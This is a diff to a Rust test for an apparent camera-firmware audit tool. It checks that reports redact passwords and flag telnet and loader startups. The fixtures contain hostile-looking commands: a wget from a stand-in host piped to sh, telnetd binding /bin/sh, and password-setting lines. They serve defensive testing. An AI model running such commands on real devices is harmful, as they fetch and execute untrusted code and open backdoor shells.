@@ -183,7 +183,19 @@ fn no_report_holds_the_passwords_of_command_lines() {
     );
     camera.write(
         "etc/init.d/S99x",
-        "#!/bin/sh\n/tmp/x geheim\nwget --password=geheim http://192.0.2.1/x | sh\n",
+        "#!/bin/sh\n/tmp/x geheim\nwget --password=geheim http://192.0.2.1/x | sh\ntelnetd -l /bin/sh geheim\n\
+         echo root:geheim `which geheim` telnetd | geheim\nfw_setenv password geheim\n/mnt/mmc/x geheim\n\
+         sh -c \"wget http://u:geheim@192.0.2.1/; telnetd -l $(geheim)\"\n",
+    );
+    camera.write(
+        "etc/inetd.conf",
+        "telnet stream tcp nowait root telnetd telnetd -l geheim\n",
+    );
+    camera.write("etc/mdev.conf", "sda 0:0 660 @telnetd geheim\n");
+    camera.write("etc/network/interfaces", "up telnetd -l geheim\n");
+    camera.write(
+        "etc/systemd/system/x.service",
+        "[Service]\nExecStart=/tmp/telnetd geheim\n",
     );
     for format in ["text", "json", "html", "xccdf", "cyclonedx"] {
         let output = camera.audit(&["--format", format, "--details", "--no-probe"]);
@@ -191,6 +203,11 @@ fn no_report_holds_the_passwords_of_command_lines() {
         assert!(!text.contains("geheim"), "{format}: {text}");
     }
     let report = camera.report();
+    let telnet = evidence(&report, "start.telnet");
+    for told in ["S99x:4", "`telnetd …`", "/etc/inetd.conf:1", "/etc/mdev.conf:1"] {
+        assert!(telnet.contains(told), "{told}: {telnet}");
+    }
+    assert!(evidence(&report, "start.loader").contains("`fw_setenv …`"));
     let streamer = report["sockets"].as_array().unwrap();
     assert_eq!(streamer[0]["command"], "/usr/bin/streamer");
     assert_eq!(streamer[0]["program"], "/bin/busybox");
